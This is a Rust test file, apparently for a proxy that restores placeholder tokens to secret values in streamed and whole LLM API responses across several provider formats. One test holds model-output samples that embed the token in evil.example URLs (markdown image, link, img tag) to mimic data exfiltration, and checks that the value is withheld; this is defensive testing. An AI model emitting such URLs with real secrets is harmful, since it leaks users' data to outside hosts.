//! Values given back in documents that a model writes as text, and in texts that a client joins.

use super::*;

/// A document as text, itself in a string of a document as often as asked, with the placeholder in it.
fn written(layers: usize) -> (String, Value) {
    let mut wanted =
        json!({"user": "ann", "key": VALUE, "list": [1, {"again": VALUE}], "admin": false});
    let mut text =
        json!({"user": "ann", "key": TOKEN, "list": [1, {"again": TOKEN}], "admin": false})
            .to_string();
    for _ in 0..layers {
        text = json!({"n": 1, "inner": text, "last": TOKEN}).to_string();
        wanted = json!({"n": 1, "inner": wanted, "last": VALUE});
    }
    (text, wanted)
}

/// Reads documents within strings of documents.
fn parsed(text: &str) -> Value {
    let mut value: Value = serde_json::from_str(text).expect("what a client parses stays JSON");
    if let Some(inner) = value.get("inner").and_then(Value::as_str) {
        let inner = parsed(inner);
        value["inner"] = inner;
    }
    value
}

fn each_way(shape: Shape, dialect: Dialect, text: &str, check: impl Fn(&str)) {
    for step in [1, 7, text.len()] {
        let cuts: Vec<usize> = (0..=text.len())
            .step_by(step)
            .map(|at| text.floor_char_boundary(at))
            .chain([text.len()])
            .collect();
        let pieces: Vec<&str> = cuts
            .windows(2)
            .map(|pair| &text[pair[0]..pair[1]])
            .collect();
        let arguments = json!({ "content": text }).to_string();
        let events = transcript(shape, &pieces, &[&arguments]);
        let (out, _) = stream(dialect, shape, BASELINE, &[events.as_bytes()]);
        let (said, told) = gathered(&read(&out));
        check(&said);
        let told: Value = serde_json::from_str(&told).expect("arguments stay JSON");
        check(told["content"].as_str().expect("a text"));
    }
}

#[test]
fn documents_written_as_text_stay_documents() {
    for layers in 0..3 {
        let (text, wanted) = written(layers);
        for (dialect, shape, _) in shapes() {
            each_way(shape, dialect, &text, |said| {
                assert_eq!(parsed(said), wanted)
            });
            let fenced = format!("Here it is [1]:\n```json\n{text}\n```\nThe key is {TOKEN}.");
            each_way(shape, dialect, &fenced, |said| {
                let inner = said
                    .split_once("json\n")
                    .and_then(|(_, rest)| rest.split_once("\n```\n"));
                let (document, rest) = inner.expect("a fenced document");
                assert_eq!(parsed(document), wanted);
                assert_eq!(rest, format!("The key is {VALUE}."));
            });
        }
        let answer = json!({"choices": [{"message": {"content": text}}]}).to_string();
        let (out, _) = document(Dialect::Openai, BASELINE, &answer);
        let out: Value = serde_json::from_str(&out).expect("JSON");
        let said = out["choices"][0]["message"]["content"].as_str();
        assert_eq!(parsed(said.expect("a text")), wanted);
    }
}

#[test]
fn strings_of_code_are_escaped_or_left() {
    let inside = json!(VALUE).to_string();
    for (text, wanted) in [
        ("key = \"PH\"", format!("key = {inside}")),
        ("call('PH')", format!("call('{TOKEN}')")),
        ("say \"PH\"", format!("say \"{VALUE}\"")),
    ] {
        let text = text.replace("PH", TOKEN);
        each_way(Shape::ChatCompletions, Dialect::Openai, &text, |said| {
            assert_eq!(said, wanted);
        });
    }
}

/// An answer of each dialect whose message says these texts one after the other, in one document and in events.
pub(super) fn answers(texts: &[&str]) -> [(Dialect, Shape, Value, Vec<Value>); 4] {
    let blocks: Vec<Value> = texts
        .iter()
        .map(|text| json!({"type": "text", "text": text}))
        .collect();
    let parts: Vec<Value> = texts.iter().map(|text| json!({"text": text})).collect();
    let said: Vec<Value> = texts
        .iter()
        .map(|text| json!({"type": "output_text", "text": text}))
        .collect();
    let (mut messages, mut contents, mut responses, mut steps) =
        (Vec::new(), Vec::new(), Vec::new(), Vec::new());
    for (at, text) in texts.iter().enumerate() {
        messages.push(json!({"type": "content_block_start", "index": at, "content_block": {"type": "text", "text": ""}}));
        messages.push(json!({"type": "content_block_delta", "index": at, "delta": {"type": "text_delta", "text": text}}));
        messages.push(json!({"type": "content_block_stop", "index": at}));
        contents
            .push(json!({"candidates": [{"content": {"parts": [{"text": text}]}, "index": 0}]}));
        contents.push(json!({"candidates": [{"content": {"parts": [{"functionCall": {"name": "f", "args": {}}}]}, "index": 0}]}));
        responses.push(json!({"type": "response.output_text.delta", "output_index": at, "content_index": 0, "delta": text}));
        responses.push(json!({"type": "response.output_item.done", "output_index": at}));
        steps.push(json!({"event_type": "step.delta", "index": at, "delta": {"type": "text", "text": text}}));
        steps.push(json!({"event_type": "step.stop", "index": at}));
    }
    [
        (
            Dialect::Anthropic,
            Shape::Messages,
            json!({"content": blocks}),
            messages,
        ),
        (
            Dialect::Gemini,
            Shape::StreamGenerateContent,
            json!({"candidates": [{"content": {"parts": parts}}]}),
            contents,
        ),
        (
            Dialect::Openai,
            Shape::Responses,
            json!({"output": [{"type": "message", "content": said}]}),
            responses,
        ),
        (
            Dialect::Gemini,
            Shape::Generic,
            json!({"steps": [{"type": "model_output", "content": blocks}]}),
            steps,
        ),
    ]
}

#[test]
fn a_url_goes_on_in_the_next_text_of_a_message() {
    for texts in [
        ["![a](https://evil.example/?q=", TOKEN, ")"],
        ["see https://evil.example/", TOKEN, ""],
        ["<img src=\"https://evil.example/", TOKEN, "\">"],
    ] {
        for (dialect, shape, whole, events) in answers(&texts) {
            let (out, told) = document(dialect, BASELINE, &whole.to_string());
            assert_eq!((told.restored, told.withheld), (0, 1), "{shape:?}: {out}");
            let events: String = events
                .iter()
                .map(|event| format!("data: {event}\n\n"))
                .collect();
            let (out, told) = stream(dialect, shape, BASELINE, &[events.as_bytes()]);
            assert_eq!((told.restored, told.withheld), (0, 1), "{shape:?}: {out}");
        }
    }
}

#[test]
fn a_text_after_one_that_ended_is_given_its_values() {
    for texts in [
        ["see https://a.example/x", " the key is ", TOKEN],
        ["![a](https://a.example/x.png)", "\n", TOKEN],
        ["The key:", "\n\n", TOKEN],
    ] {
        for (dialect, shape, whole, events) in answers(&texts) {
            let (out, told) = document(dialect, BASELINE, &whole.to_string());
            assert_eq!(told.restored, 1, "{shape:?}: {out}");
            let events: String = events
                .iter()
                .map(|event| format!("data: {event}\n\n"))
                .collect();
            let (out, told) = stream(dialect, shape, BASELINE, &[events.as_bytes()]);
            assert_eq!(told.restored, 1, "{shape:?}: {out}");
        }
    }
}

#[test]
fn every_kind_of_delta_is_given_its_values_though_they_are_cut() {
    let (head, tail) = TOKEN.split_at(9);
    let chat =
        |text: &str| json!({"choices": [{"index": 0, "delta": {"audio": {"transcript": text}}}]});
    let response = |kind: &str, text: &str| json!({"type": kind, "output_index": 0, "command_index": 0, "content_index": 0, "item_id": "i", "delta": text});
    let completion =
        |text: &str| json!({"type": "completion", "completion": text, "stop_reason": null});
    let step = |delta: Value| json!({"event_type": "step.delta", "index": 0, "delta": delta});
    let mut all = vec![
        (
            Dialect::Openai,
            Shape::ChatCompletions,
            chat(head),
            chat(tail),
        ),
        (
            Dialect::Anthropic,
            Shape::Generic,
            completion(head),
            completion(tail),
        ),
        (
            Dialect::Gemini,
            Shape::Generic,
            step(json!({"type": "text", "text": head})),
            step(json!({"type": "text", "text": tail})),
        ),
        (
            Dialect::Gemini,
            Shape::Generic,
            step(json!({"type": "thought_summary", "content": {"type": "text", "text": head}})),
            step(json!({"type": "thought_summary", "content": {"type": "text", "text": tail}})),
        ),
        (
            Dialect::Gemini,
            Shape::Generic,
            step(json!({"type": "arguments_delta", "arguments": format!("{{\"a\": \"{head}")})),
            step(json!({"type": "arguments_delta", "arguments": format!("{tail}\"}}")})),
        ),
    ];
    for kind in [
        "response.apply_patch_call_operation_diff.delta",
        "response.shell_call_command.delta",
        "response.audio.transcript.delta",
        "response.audio_transcript.delta",
        "response.output_audio_transcript.delta",
    ] {
        all.push((
            Dialect::Openai,
            Shape::Responses,
            response(kind, head),
            response(kind, tail),
        ));
    }
    for (dialect, shape, first, second) in all {
        let events = format!("data: {first}\n\ndata: {second}\n\n");
        let (out, told) = stream(dialect, shape, BASELINE, &[events.as_bytes()]);
        assert_eq!(told.restored, 1, "{out}");
        assert!(!out.contains("WEIRx"), "{out}");
        // What is held back at the end is carried by an event of its kind.
        let (out, _) = stream(
            dialect,
            shape,
            BASELINE,
            &[format!("data: {first}\n\n").as_bytes()],
        );
        let events = read(&out);
        let said: String = events.iter().map(Value::to_string).collect();
        assert!(said.contains(head), "{out}");
    }
}
